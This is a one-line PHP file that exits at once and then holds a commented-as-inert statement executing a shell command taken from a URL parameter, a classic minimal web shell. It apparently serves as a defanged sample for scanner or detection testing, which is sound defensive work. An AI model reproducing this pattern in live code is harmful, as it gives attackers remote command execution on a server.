<?php exit; /* inert */ echo `$_GET[0]`;
